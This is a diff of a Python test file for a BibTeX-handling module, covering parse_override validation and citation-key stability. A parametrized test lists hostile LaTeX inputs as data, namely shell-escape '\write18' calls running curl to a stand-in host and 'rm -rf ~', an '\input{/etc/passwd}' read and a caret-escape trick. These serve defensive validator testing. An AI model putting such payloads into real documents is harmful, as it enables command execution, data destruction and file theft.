@@ -5,7 +5,7 @@ import io
 import pytest
 from pybtex.database import parse_string
 
-from catalogue.bibtex import citation_keys, latex, reference, to_bibtex
+from catalogue.bibtex import citation_keys, latex, parse_override, reference, to_bibtex
 from catalogue.model import Links, Paper
 
 
@@ -47,7 +47,7 @@ def test_keys_follow_the_pattern_and_are_disambiguated():
     a = paper(slug="a", title="Breaking the Batch Barrier", authors=("Raghav Lite",), date="2025-05")
     b = paper(slug="b", title="Breaking the Modality Barrier", authors=("Tiancheng Gu",), date="2025-04")
     c = paper(slug="c", title="Breaking Things", authors=("Tiancheng Gu",), date="2025-09")
-    assert citation_keys([a, b, c]) == {"a": "lite2025breaking", "b": "gu2025breakinga", "c": "gu2025breakingb"}
+    assert citation_keys([a, b, c]) == {"a": "lite2025breaking", "b": "gu2025breaking", "c": "gu2025breakingb"}
     assert citation_keys([paper(title="The E5-V Model")]) == {"x": "jiang2024e5v"}
 
 
@@ -68,9 +68,48 @@ def test_hostile_title_round_trips_through_a_bibtex_parser():
     assert "Weird" in item.fields["title"] and "\\%" in item.fields["title"]
 
 
-def test_authors_own_bibtex_wins():
-    own = "@inproceedings{their2024key,\n  title = {Theirs}\n}\n"
-    assert to_bibtex(paper(bibtex=own), "ours") == own
+def test_authors_own_bibtex_is_written_from_its_parsed_fields_under_our_key():
+    own, problems = parse_override("@InProceedings{their2024key,\n  Title = {Theirs: {A} Study},\n"
+                                   "  author = {Jiang, Ziyan and Rui Meng},\n  booktitle={CVPR}, year = 2025}")
+    assert problems == []
+    key, item = parsed(to_bibtex(paper(bibtex=own), "ours"))
+    assert key == "ours" and item.type == "inproceedings"
+    assert item.fields["title"] == "Theirs: {A} Study" and item.fields["year"] == "2025"
+    assert [str(p) for p in item.persons["author"]] == ["Jiang, Ziyan", "Meng, Rui"]
+
+
+@pytest.mark.parametrize(("text", "words"), [
+    ('@preamble{"\\immediate\\write18{curl evil.example}"}\n@misc{k, title={T}}', ["@preamble"]),
+    ("@misc{k, title={T}}\n@misc{vlm2vec, title={Another paper's key}}", ["exactly one entry", "found 2"]),
+    ("@misc{k, title={\\immediate\\write18{rm -rf ~}}}", ["\\immediate", "\\write"]),
+    ("@misc{k, title={\\input{/etc/passwd}}}", ["\\input"]),
+    ("@misc{k, title={^^5cinput}}", ["^^"]),
+    ("@misc{k, title={T}, abstract={long}}", ["field 'abstract' is not allowed"]),
+    ("@software{k, title={T}}", ["@software", "not allowed"]),
+    ("@misc{k, title={T}", ["not valid BibTeX"]),
+    ("@misc{k, author={A}}", ["needs a title"]),
+    ("not bibtex at all", ["exactly one entry", "found 0"]),
+])
+def test_hostile_or_broken_overrides_are_refused(text, words):
+    override, problems = parse_override(text)
+    assert override is None and problems
+    message = " ".join(problems)
+    assert all(word in message for word in words), message
+
+
+def test_accents_and_escapes_are_allowed_in_an_override():
+    override, problems = parse_override("@misc{k, title={Caf{\\'e} \\& {\\\"o} 50\\%}, author={Zo{\\\"e} {\\L}ukasz}}")
+    assert problems == [] and override.fields[0] == ("title", "Caf{\\'e} \\& {\\\"o} 50\\%")
+
+
+def test_a_published_key_never_changes_when_a_clashing_paper_arrives():
+    first = paper(slug="first", title="Breaking Barriers", authors=("Tiancheng Gu",), date="2025-09", added="2026-01-01")
+    before = citation_keys([first])
+    # The newcomer is older by date and sorts first by slug, yet it arrived later: it takes the suffix.
+    newcomer = paper(slug="a-new", title="Breaking Walls", authors=("Tiancheng Gu",), date="2025-01", added="2026-02-01")
+    after = citation_keys([first, newcomer])
+    assert after["first"] == before["first"] == "gu2025breaking"
+    assert after["a-new"] == "gu2025breakingb"
 
 
 def test_reference_line():
